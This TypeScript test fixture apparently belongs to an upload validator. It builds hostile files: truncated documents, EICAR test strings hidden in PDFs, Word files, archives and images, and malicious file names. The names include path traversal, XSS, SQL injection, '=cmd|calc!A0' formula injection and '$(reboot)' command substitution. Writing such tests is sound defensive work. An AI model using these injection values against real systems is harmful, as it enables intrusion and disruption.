  'ảnh.webp': () => image('webp', 600, 400),
  'ảnh.tif': () => image('tiff', 600, 400),
  'đơn.docx': async () =>
    docx({ 'word/media/1.bin': Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7919) % 256)) }),
  'bảng.xlsx': async () => xlsx(),
} as const;

/** What is left of each type when the line was cut; the first half of some is enough to know what it is. */
const cut: readonly HostileFile[] = Object.entries(wholeOnes).flatMap(([name, make]) =>
  ([0.02, 0.5, 0.97] as const).map((share): HostileFile => {
    // A scan whose last lines alone are missing is read as far as it goes.
    const isRead = /tif$/.test(name) && share > 0.9;
    const isLost = (/tif$/.test(name) && share < 0.9) || (/webp$/.test(name) && share < 0.1);
    const code = isLost
      ? 'unknown_type'
      : /pdf$/.test(name)
        ? 'pdf_broken'
        : /x$/.test(name)
          ? 'office_broken'
          : 'image_broken';
    return {
      ...{ name, says: `the first ${share * 100} % of ${name}` },
      make: async () => {
        const content = await make();
        return content.subarray(0, Math.max(1, Math.floor(content.length * share)));
      },
      fate: isRead ? 'kept' : refused(code),
    };
  }),
);

const named = (name: string): HostileFile => ({
  ...{ name, says: `a name like ${JSON.stringify(name)}`, fate: 'kept', make: () => pdf() },
});

const names: readonly HostileFile[] = [
  '../../../etc/passwd.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  'C:\\fakepath\\đơn.pdf',
  'đơn\0.exe.pdf',
  'a\u202Efdp.pdf',
  'a\u200B\u2066b.pdf',
  '<script>alert(1)</script>.pdf',
  '"><img src=x onerror=alert(1)>.pdf',
  "a'; drop table papers.file; --.pdf",
  'a; filename=b.html.pdf',
  '%2e%2e%2fpasswd.pdf',
  '....pdf',
  '.htaccess',
  'CON.pdf',
  `${'rất dài '.repeat(100)}.pdf`,
  'Ðơn xin 😀.pdf',
  'đơn.pdf   ',
  '=cmd|calc!A0.pdf',
  '$(reboot).pdf',
  'ẳ'.normalize('NFD').repeat(40),
].map(named);

const infectedAs = (name: string) => of(name, 'infected');
const infected: readonly HostileFile[] = [
  infectedAs('đơn.pdf')('stands in a PDF', objects(`4 0 obj\n(${eicar})\nendobj`)),
  infectedAs('đơn.pdf')('stands in a packed stream of a PDF', () => pdf(packed(4, '', Buffer.from(eicar)))),
  infectedAs('đơn.pdf')('is attached to a PDF', () =>
    pdf(
      `4 0 obj\n<</Type/Filespec/F(a.com)/EF<</F 5 0 R>>>>\nendobj\n${packed(5, '/Type/EmbeddedFile', Buffer.from(eicar))}`,
    ),
  ),
  infectedAs('đơn.pdf')('stands in an archive behind a PDF', () => bytes(pdf(), zip({ 'a.txt': eicar }))),
  infectedAs('đơn.docx')('stands in a Word file', () => docx({ 'word/media/a.txt': eicar })),
  infectedAs('đơn.docx')('stands in an archive in a Word file', () =>
    docx({ 'word/media/a.zip': zip({ 'a.txt': eicar }) }),
  ),
  infectedAs('đơn.docx')('stands in an archive in an archive in a Word file', () =>
    docx({ 'word/media/a.zip': zip({ 'b.zip': zip({ 'a.txt': eicar }) }) }),
  ),
  infectedAs('ảnh.png')('stands in the notes of an image', () => pngWith(chunk('tEXt', bytes(`Comment\0${eicar}`)))),
  infectedAs('ảnh.jpg')('stands behind a photo', async () => bytes(await image('jpeg'), eicar)),
  infectedAs('ảnh.tif')('stands behind a scan', async () => bytes(await image('tiff'), eicar)),
];

/** Every kind, by what it tries. */
export const hostileFiles: readonly (readonly [tries: string, files: readonly HostileFile[]])[] = [
  ['A PDF that acts', actions],
  ['A PDF that is not built as one', structures],
  ['A PDF that is endless to draw', drawings],
  ['A PDF that is more than one', attached],
  ['A file of another kind', [...disguised, ...moreDisguised]],
  ['A Word file', offices],
  ['An image', images],
  ['A file cut off', cut],
  ['A file', names],
  ['A virus', infected],
];
